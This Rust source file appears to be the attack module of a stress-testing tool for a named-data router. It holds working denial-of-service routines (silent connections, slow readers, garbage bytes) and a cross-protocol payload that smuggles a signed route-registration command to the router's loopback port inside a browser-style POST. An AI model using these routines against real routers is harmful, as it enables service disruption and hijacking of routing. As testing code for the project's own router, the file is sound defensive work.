//! Attacks by connections that send nothing, read nothing, send garbage, or come from a web page.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::os::fd::AsRawFd;
use std::thread;
use std::time::Duration;

use namehop_wire::Name;
use namehop_wire::security::DigestSigner;
use namehop_wire::tlv::frame_length;
use nix::sys::socket::{
    AddressFamily, SockFlag, SockType, SockaddrStorage, bind, connect, setsockopt, socket, sockopt,
};

use super::options::{Failure, Options, Pace};
use super::packets::{Extras, interest, numbered, registration};
use super::senders::address_number;

/// Receive buffer in bytes of a peer that does not read, so that its packets queue up in the router.
const SMALL_BUFFER_BYTES: usize = 4096;
/// Time limit of a connection attempt.
const CONNECT_TIMEOUT_MS: u64 = 500;
/// Interests per write of a slow reader.
const INTERESTS_AT_A_TIME: usize = 20;
/// Number of names that slow readers request: the cache answers.
const NAMES: u64 = 64;

/// Opens a nonblocking connection from the address with this number.
fn open(options: &Options, number: u32, small_buffer: bool) -> Result<TcpStream, Failure> {
    let to: SocketAddr = options.get("to")?;
    let family = if to.is_ipv4() { AddressFamily::Inet } else { AddressFamily::Inet6 };
    let made = socket(family, SockType::Stream, SockFlag::SOCK_CLOEXEC, None)?;
    if small_buffer {
        setsockopt(&made, sockopt::RcvBuf, &SMALL_BUFFER_BYTES)?;
    }
    let stream = TcpStream::from(made);
    // On Linux, the send time-out also limits connect.
    stream.set_write_timeout(Some(Duration::from_millis(CONNECT_TIMEOUT_MS)))?;
    if options.optional("from").is_some() {
        bind(stream.as_raw_fd(), &SockaddrStorage::from(address_number(options, number)?))?;
    }
    connect(stream.as_raw_fd(), &SockaddrStorage::from(to))?;
    stream.set_nonblocking(true)?;
    Ok(stream)
}

/// Returns true if the router has closed this connection. Received bytes are discarded.
fn is_closed(stream: &mut TcpStream) -> bool {
    let mut buffer = [0; 4096];
    match stream.read(&mut buffer) {
        Ok(count) => count == 0,
        Err(error) => error.kind() != ErrorKind::WouldBlock,
    }
}

/// Opens connections from `senders` addresses that send only `say`, or nothing; at most `count` at a time.
pub fn silent(options: &Options) -> Result<String, Failure> {
    let mut pace = options.pace()?;
    let (limit, senders) = (options.get::<usize>("count")?, options.get_or::<u32>("senders", 1)?);
    let say = options.optional("say").unwrap_or("").replace("\\r\\n", "\r\n");
    let (mut held, mut made, mut refused, mut closed) = (Vec::new(), 0_u32, 0, 0);
    while let Some(due) = pace.next() {
        for _ in 0..due.min(limit - held.len().min(limit)) {
            match open(options, made % senders, false) {
                Ok(mut stream) => {
                    made += 1;
                    // The check below detects a router that closes at once.
                    let _ = stream.write_all(say.as_bytes());
                    held.push(stream);
                }
                Err(_) => refused += 1,
            }
            if pace.left().is_zero() {
                break;
            }
        }
        if held.len() >= limit {
            let before = held.len();
            held.retain_mut(|stream| !is_closed(stream));
            closed += before - held.len();
            thread::sleep(Duration::from_millis(50).min(pace.left()));
        }
    }
    held.retain_mut(|stream| !is_closed(stream));
    Ok(format!(
        "{{\"connections\": {made}, \"refused\": {refused}, \"closed\": {closed}, \"open_at_end\": {}}}",
        held.len()
    ))
}

/// Opens `count` connections that request large Data and read nothing.
pub fn slow_readers(options: &Options) -> Result<String, Failure> {
    let mut pace = options.pace()?;
    let count = options.get::<usize>("count")?;
    let senders = options.get_or::<u32>("senders", 1)?;
    let prefix: Name = "/open/big".parse()?;
    let (mut readers, mut sent, mut closed, mut next, mut owed) = (Vec::new(), 0_usize, 0, 0, 0);
    while let Some(due) = pace.next() {
        owed += due;
        for _ in 0..owed / INTERESTS_AT_A_TIME {
            owed -= INTERESTS_AT_A_TIME;
            if readers.len() < count
                && let Ok(stream) = open(options, readers.len() as u32 % senders, true)
            {
                readers.push(stream);
            }
            if readers.is_empty() {
                continue;
            }
            next = (next + 1) % readers.len();
            let packets = (0..INTERESTS_AT_A_TIME).flat_map(|number| {
                let name = numbered(&prefix, (sent + number) as u64 % NAMES);
                interest(name.value(), &Extras::default())
            });
            let packets: Vec<u8> = packets.collect();
            match readers[next].write(&packets) {
                // A partial Interest would end the connection as malformed.
                Ok(written) if written == packets.len() => sent += INTERESTS_AT_A_TIME,
                Ok(_) => drop(readers.swap_remove(next)),
                Err(error) if error.kind() == ErrorKind::WouldBlock => {}
                Err(_) => {
                    closed += 1;
                    readers.swap_remove(next);
                }
            }
        }
    }
    Ok(format!("{{\"packets\": {sent}, \"connections\": {}, \"closed\": {closed}}}", readers.len()))
}

/// Opens connections that send garbage.
pub fn garbage(options: &Options) -> Result<String, Failure> {
    let mut pace = options.pace()?;
    let noise: Vec<u8> = (0..4096_u32).map(|number| (number.wrapping_mul(0x9E37_79B1) >> 24) as u8).collect();
    let kinds: [&[u8]; 6] = [
        &[0; 100],
        &[0xFF; 100],
        &noise,
        b"GET / HTTP/1.1\r\nHost: router\r\nAccept: */*\r\n\r\n",
        &[0x16, 3, 1, 2, 0, 1, 0, 1, 0xFC, 3, 3],
        &[5, 0xFE, 0x7F, 0xFF, 0xFF, 0xFF, 7, 3, 8, 1, 65],
    ];
    let (mut made, mut refused) = (0_usize, 0);
    while let Some(due) = pace.next() {
        for _ in 0..due {
            match open(options, made as u32 % options.get_or::<u32>("senders", 1)?, false) {
                Ok(mut stream) => {
                    // Either side then closes the connection.
                    let _ = stream.write_all(kinds[made % kinds.len()]);
                    made += 1;
                }
                Err(_) => refused += 1,
            }
        }
    }
    Ok(format!("{{\"connections\": {made}, \"refused\": {refused}}}"))
}

/// Returns the bytes that a browser sends for a web page that posts a binary body to the router's TCP port. Parsed as
/// TLV elements, the last element of the header reaches into the body. The page pads the body so that the element ends
/// where the command starts.
fn posted(command: &[u8]) -> Result<Vec<u8>, Failure> {
    for useless_bytes in 0..256 {
        let header = format!(
            "POST /ndn HTTP/1.1\r\nHost: 127.0.0.1:6363\r\nConnection: keep-alive\r\nContent-Length: {}\r\n\
             User-Agent: Mozilla/5.0\r\nContent-Type: text/plain\r\nAccept: */*\r\nOrigin: http://evil.example\r\n\
             Referer: http://evil.example/\r\nAccept-Language: en\r\n\r\n",
            useless_bytes + command.len()
        );
        let request = [header.as_bytes(), &vec![0; useless_bytes], command].concat();
        let mut rest = request.as_slice();
        while rest.len() > command.len()
            && let Ok(Some(length)) = frame_length(rest)
            && length <= rest.len()
        {
            rest = &rest[length..];
        }
        if rest == command {
            return Ok(request);
        }
    }
    Err("the header must end with a TLV element that extends into the body".into())
}

/// Posts commands over loopback, as a web page in the operator's browser.
pub fn web_page(options: &Options) -> Result<String, Failure> {
    let mut pace: Pace = options.pace()?;
    let (mut posts, mut refused) = (0, 0);
    while let Some(due) = pace.next() {
        for _ in 0..due {
            // For a face that outlives the connection.
            let face = Some(options.get("face")?);
            let command = registration("localhost", &"/attacker/web".parse()?, face, &DigestSigner)?;
            match open(options, 0, false) {
                Ok(mut stream) => {
                    let _ = stream.write_all(&posted(&command)?);
                    // A browser waits for an answer as long as this.
                    thread::sleep(Duration::from_millis(20).min(pace.left()));
                    posts += 1;
                }
                Err(_) => refused += 1,
            }
        }
    }
    Ok(format!("{{\"connections\": {posts}, \"refused\": {refused}}}"))
}
